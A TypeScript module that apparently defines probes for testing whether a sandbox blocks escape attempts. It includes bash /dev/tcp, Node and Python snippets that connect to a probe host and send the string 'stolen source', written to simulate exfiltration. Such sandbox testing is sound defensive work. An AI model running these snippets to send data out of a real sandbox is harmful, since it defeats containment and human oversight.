/**
 * The vocabulary of the probes: what an attacker inside the sandbox tries, with which program, and the exact
 * result that is right. A probe that gets anything else has failed, even if that is another refusal: a person
 * has to look at it.
 */
import type { Body, Control, Program, Target } from './inside/plan.mts';

export interface Probe {
  readonly id: string;
  /** The attempt, as the report prints it. */
  readonly attack: string;
  readonly program: Program;
  /** The right results; any of these, to the letter. */
  readonly expected: readonly string[];
  /** The request is allowed by design, so its marker is expected upstream. */
  readonly reachesUpstream?: boolean;
  /**
   * Searches everything the program prints for the secrets of this run; `expected` must contain `nothing
   * secret`.
   */
  readonly searched?: boolean;
  /** The file of the machine outside that the probe is after. Without it there is nothing to reach. */
  readonly outside?: string;
  /** Probes of one lane run one after the other. Default: the lane of the group. */
  readonly lane?: string;
  /** Default 40,000. */
  readonly timeoutMs?: number;
}

export interface Group {
  readonly name: string;
  readonly about: string;
  readonly probes: (place: Place) => readonly Probe[];
}

export interface CanaryPlace {
  readonly httpPort: number;
  readonly httpsPort: number;
  readonly tcpPort: number;
  readonly tcp6Port: number | null;
  readonly udpPort: number;
  /** An abstract Unix socket, which lives in a network namespace and not in a file system. */
  readonly abstractName: string;
  /** A file outside, readable by everybody. */
  readonly file: string;
  /** A Unix socket outside, for everybody. */
  readonly socketFile: string;
  /** The process outside. */
  readonly pid: number;
}

/** On this machine, or in a container of a deployment, with each of its classes. */
export const probedSandboxes = ['local', 'native', 'sdk'] as const;
export type ProbedSandbox = (typeof probedSandboxes)[number];

/** The attacker's surroundings: facts of one run. */
export interface Place {
  readonly sandbox: ProbedSandbox;
  /** Part of every request that must not arrive, so that the logs upstream can be searched for it. */
  readonly marker: string;
  readonly architecture: 'x64' | 'arm64';
  /** The attacker's host: on the loopback interface of the machine outside. */
  readonly canary: CanaryPlace;
  /** An address of the machine outside, not the loopback's. */
  readonly hostAddress: string;
  readonly botPort: number;
  readonly githubPort: number;
  readonly openaiPort: number;
  readonly checkout: string;
  /** Where the machine outside keeps the files of its sandboxes. */
  readonly sandboxFolder: string;
  /** Id of another task's sandbox. */
  readonly otherSandbox: string;
}

/** The status and the code of the commonest denial. */
export const notGranted = ['403 host.not-granted'] as const;
export function curl(
  id: string,
  attack: string,
  args: readonly string[],
  expected: readonly string[],
  more: Partial<Probe> & { readonly body?: Body } = {},
): Probe {
  const { body, ...rest } = more;
  return {
    id,
    attack,
    expected,
    program: { kind: 'curl', args, ...(body === undefined ? {} : { body }) },
    ...rest,
  };
}

export function script(
  id: string,
  attack: string,
  language: Extract<Program, { kind: 'script' }>['language'],
  source: string,
  expected: readonly string[],
  more: Partial<Probe> & ScriptInput = {},
): Probe {
  const { target, args, control, ...rest } = more;
  const input = {
    ...(target === undefined ? {} : { target }),
    ...(args === undefined ? {} : { args }),
    ...(control === undefined ? {} : { control }),
  };
  return { id, attack, expected, program: { kind: 'script', language, source, ...input }, ...rest };
}

interface ScriptInput {
  readonly target?: Target;
  readonly args?: readonly string[];
  readonly control?: Control;
}

export const unreachable = ['ENETUNREACH'] as const;
export const refusedConnection = ['ECONNREFUSED'] as const;

/** Connects with the shell's own means, without a resolver, a proxy setting or a library. */
export const bashConnect = `
if error=$( { exec 3<>"/dev/tcp/$PROBE_ADDRESS/$PROBE_PORT" && printf 'stolen source' >&3; } 2>&1 ); then echo CONNECTED
elif [[ $error == *'Network is unreachable'* ]]; then echo ENETUNREACH
elif [[ $error == *'Connection refused'* ]]; then echo ECONNREFUSED
else echo "$error" | tail -n 1; fi`;

export const nodeConnect = `
import { connect } from 'node:net';
const socket = connect({ host: process.env.PROBE_ADDRESS, port: Number(process.env.PROBE_PORT) });
socket.setTimeout(20_000, () => process.exit(1));
socket.on('connect', () => socket.end('stolen source', () => { console.log('CONNECTED'); process.exit(); }));
socket.on('error', (error) => { console.log(error.code); process.exit(); });`;

export const nodeDatagram = `
import { createSocket } from 'node:dgram';
const address = process.env.PROBE_ADDRESS;
const socket = createSocket(address.includes(':') ? 'udp6' : 'udp4');
socket.on('error', (error) => { console.log(error.code); process.exit(); });
socket.send('stolen source', Number(process.env.PROBE_PORT), address, (error) => {
  // A sent datagram is an escape, even if no host receives it.
  console.log(error === null ? 'SENT' : error.code);
  process.exit();
});`;

export const pythonConnect = `
import errno, os, socket
address, port = os.environ['PROBE_ADDRESS'], int(os.environ['PROBE_PORT'])
try:
    with socket.create_connection((address, port), 20) as connection:
        connection.sendall(b'stolen source')
        print('CONNECTED')
except OSError as error:
    print(errno.errorcode.get(error.errno, str(error)))`;

export const tcp = (address: string, port: number): Target => ({ protocol: 'tcp', address, port });
export const udp = (address: string, port: number): Target => ({ protocol: 'udp', address, port });
